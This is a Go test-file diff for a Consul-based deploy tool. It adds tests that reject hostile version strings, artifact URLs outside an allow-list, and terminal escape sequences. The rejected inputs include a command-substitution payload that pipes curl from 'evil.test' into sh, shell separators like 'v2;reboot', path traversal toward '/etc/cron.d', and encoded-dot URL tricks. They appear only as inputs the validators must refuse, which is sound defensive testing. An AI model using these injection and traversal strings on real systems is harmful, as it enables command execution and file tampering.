@@ -4,13 +4,17 @@ import (
 	"context"
 	"errors"
 	"fmt"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
+	"unicode"
 
 	"github.com/hashicorp/consul/api"
 
+	"github.com/consul-rehydrate/consul-rehydrate/config"
 	"github.com/consul-rehydrate/consul-rehydrate/internal/coord"
+	"github.com/consul-rehydrate/consul-rehydrate/internal/printable"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
@@ -46,6 +50,10 @@ func TestParseDesired_AcceptsOnlyAnIDAVersionAndAnArtifact(t *testing.T) {
 	d, err := ParseDesired([]byte(`{"id":"20261123T101500Z-ab12cd","version":"1.4.2","artifact":"s3://bucket/web-1.4.2.tar.gz"}`))
 	require.NoError(t, err)
 	assert.Equal(t, Desired{ID: "20261123T101500Z-ab12cd", Version: "1.4.2", Artifact: "s3://bucket/web-1.4.2.tar.gz"}, d)
+	sum := strings.Repeat("0123456789abcdef", 4)
+	d, err = ParseDesired([]byte(`{"id":"x","version":"1.4.2-rc.1+build.5","sha256":"` + sum + `"}`))
+	require.NoError(t, err)
+	assert.Equal(t, Desired{ID: "x", Version: "1.4.2-rc.1+build.5", SHA256: sum}, d)
 
 	bad := []struct{ value, want string }{
 		{``, "not a JSON object"},
@@ -60,9 +68,12 @@ func TestParseDesired_AcceptsOnlyAnIDAVersionAndAnArtifact(t *testing.T) {
 		{`{"id":"x","version":"v2"} {}`, "more than one JSON value"},
 		{`{"id":"../x","version":"v2"}`, "id"},
 		{`{"id":"x y","version":"v2"}`, "id"},
-		{`{"id":"x","version":"v 2"}`, "without spaces"},
-		{`{"id":"x","version":"v2\n"}`, "printable"},
-		{`{"id":"x","version":"` + strings.Repeat("9", 129) + `"}`, "up to 128"},
+		{`{"id":"x","version":"v 2"}`, `version "v 2" must be 1 to 128 characters of A-Z, a-z, 0-9 and . _ + -`},
+		{`{"id":"x","version":"v2\n"}`, `version "v2\n" must be`},
+		{`{"id":"x","version":"` + strings.Repeat("9", 129) + `"}`, "1 to 128 characters"},
+		{`{"id":"x","version":"v2","sha256":"abc"}`, `sha256 "abc" must be 64 hex digits`},
+		{`{"id":"x","version":"v2","sha256":"` + strings.Repeat("g", 64) + `"}`, "must be 64 hex digits"},
+		{`{"id":"x","version":"v2","sha256":"` + strings.Repeat("a", 65) + `"}`, "must be 64 hex digits"},
 		{`{"id":"x","version":"v2","artifact":"a\u0000b"}`, "artifact"},
 		{`{"id":"x","version":"v2","artifact":"` + strings.Repeat("a", 70<<10) + `"}`, "the limit"},
 	}
@@ -70,6 +81,87 @@ func TestParseDesired_AcceptsOnlyAnIDAVersionAndAnArtifact(t *testing.T) {
 		_, err := ParseDesired([]byte(b.value))
 		require.ErrorIs(t, err, ErrBadDesired, b.value)
 		assert.Contains(t, err.Error(), b.want, b.value)
+	}
+}
+
+func TestCheckVersion_AcceptsPlainVersionsOnly(t *testing.T) {
+	for _, v := range []string{"v2", "1.4.2", "1.4.2-rc.1+build.5", "2026.01.15_1", "V", strings.Repeat("9", 128)} {
+		assert.NoError(t, CheckVersion(v), v)
+	}
+	// What a hostile desired, current or status writer would try: paths, shell,
+	// options, terminal escapes, and what a command would put in a URL or argv.
+	for _, v := range []string{
+		"", "../../etc/cron.d/x", "..", "1..2", "a/b", "/abs", `a\b`, "$(curl evil.test|sh)", "`id`", "v2;reboot",
+		"v2&&x", "v2|x", "v2>x", "v2<x", "'v2'", `"v2"`, "v2 x", "-rf", "+x", ".hidden", "_x", "v2\n", "v2\x1b[2J",
+		"v2\x00", "v\u202e2", "ü", "v2*", "v2?", "v2#", "v2~", "v2=1", "v2:1", "v2@x", "v2%20", "v2{a,b}", "v2!",
+		strings.Repeat("9", 129),
+	} {
+		err := CheckVersion(v)
+		require.Error(t, err, "%q", v)
+		_, err = ParseDesired([]byte(`{"id":"x","version":` + strconv.Quote(v) + `}`))
+		assert.ErrorIs(t, err, ErrBadDesired, "%q", v)
+	}
+}
+
+func TestAllowed_HoldsADesiredValueToItsDeployBlock(t *testing.T) {
+	sum := strings.Repeat("ab", 32)
+	open := &config.DeployConfig{Service: "web"}
+	pinned := &config.DeployConfig{Service: "web", RequireSHA256: true}
+	listed := &config.DeployConfig{Service: "web", Artifacts: []string{"https://releases.example.com/web/*", "/srv/web/*.tar.gz"}}
+
+	assert.NoError(t, Allowed(open, Desired{ID: "x", Version: "v2", Artifact: "anything at all"}), "no allow-list: any artifact")
+	assert.NoError(t, Allowed(pinned, Desired{ID: "x", Version: "v2", SHA256: sum}))
+	assert.NoError(t, Allowed(listed, Desired{ID: "x", Version: "v2", Artifact: "https://releases.example.com/web/web-2.tar.gz"}))
+	assert.NoError(t, Allowed(listed, Desired{ID: "x", Version: "v2", Artifact: "https://releases.example.com/web/web-2.tar.gz?X-Amz-Signature=ab12"}))
+	assert.NoError(t, Allowed(listed, Desired{ID: "x", Version: "v2", Artifact: "/srv/web/web-2.tar.gz"}))
+
+	refused := []struct {
+		dc       *config.DeployConfig
+		artifact string
+		sha      string
+		want     string
+	}{
+		{pinned, "", "", "no sha256, and deploy.web.require_sha256 is set"},
+		{listed, "", "", "no artifact, and deploy.web.artifacts is set"},
+		{listed, "https://evil.test/web/web-2.tar.gz", "", `artifact "https://evil.test/web/web-2.tar.gz" matches none of deploy.web.artifacts`},
+		{listed, "https://releases.example.com/web/2/web.tar.gz", "", "matches none"},
+		{listed, "https://releases.example.com/webx/web.tar.gz", "", "matches none"},
+		{listed, "https://releases.example.com.evil.test/web/x", "", "matches none"},
+		{listed, "https://releases.example.com/web/..", "", `has ".."`},
+		{listed, "https://releases.example.com/web/%2e%2e", "", `has "%2e"`},
+		{listed, "https://releases.example.com/web/%2F..%2fadmin", "", `has ".."`},
+		{listed, "https://releases.example.com/web/%2Fadmin", "", `has "%2f"`},
+		{listed, `https://releases.example.com/web/x\..\admin`, "", `has ".."`},
+		{listed, `https://releases.example.com/web/x\admin`, "", `has '\\'`},
+		{listed, "https://releases.example.com/web/x@evil.test", "", `has '@'`},
+		{listed, "https://releases.example.com/web/x#y", "", `has '#'`},
+		{listed, "https://releases.example.com/web/x y", "", "has a space"},
+		{listed, "/srv/web/ü.tar.gz", "", "outside printable ASCII"},
+	}
+	for _, r := range refused {
+		err := Allowed(r.dc, Desired{ID: "x", Version: "v2", Artifact: r.artifact, SHA256: r.sha})
+		require.ErrorIs(t, err, ErrRefused, r.artifact)
+		assert.Contains(t, err.Error(), r.want, r.artifact)
+	}
+}
+
+func TestShown_EscapesWhatWouldDriveATerminal(t *testing.T) {
+	for in, want := range map[string]string{
+		"v2":                       "v2",
+		"ip-10-0-1-7.ec2.internal": "ip-10-0-1-7.ec2.internal",
+		"plain words, and ü":       "plain words, and ü",
+		"\x1b[2J\x1b[31mv9":        `\x1b[2J\x1b[31mv9`,
+		"\x1b]0;owned\x07":         `\x1b]0;owned\a`,
+		"a\nb\tc\rd":               `a\nb\tc\rd`,
+		"\u202eevil":               `\u202eevil`,
+		"bad\xffutf8":              `bad\xffutf8`,
+		"\x00\x7f\u0085":           `\x00\x7f\u0085`,
+	} {
+		got := printable.String(in)
+		assert.Equal(t, want, got, "%q", in)
+		for _, r := range got {
+			assert.True(t, r == '\uFFFD' || unicode.IsPrint(r), "%q left %q in %q", in, r, got)
+		}
 	}
 }
 
